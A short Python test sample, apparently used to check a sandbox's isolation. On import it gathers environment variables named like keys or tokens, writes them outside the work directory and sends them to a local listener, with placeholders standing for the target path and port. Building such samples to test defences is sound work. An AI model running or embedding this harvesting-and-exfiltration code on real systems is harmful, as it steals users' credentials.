# Issue 20's program, at import: read the environment, write what it found outside the work
# directory, send it to a listener on 127.0.0.1.
import os
import socket

loot = "\n".join(f"{k}={v}" for k, v in os.environ.items() if "KEY" in k or "TOKEN" in k)
try:
    with open("__TARGET__", "w") as handle:
        handle.write(loot)
except OSError:
    pass
try:
    with socket.create_connection(("127.0.0.1", __PORT__), timeout=2) as out:
        out.sendall(loot.encode() or b"nothing")
except OSError:
    pass
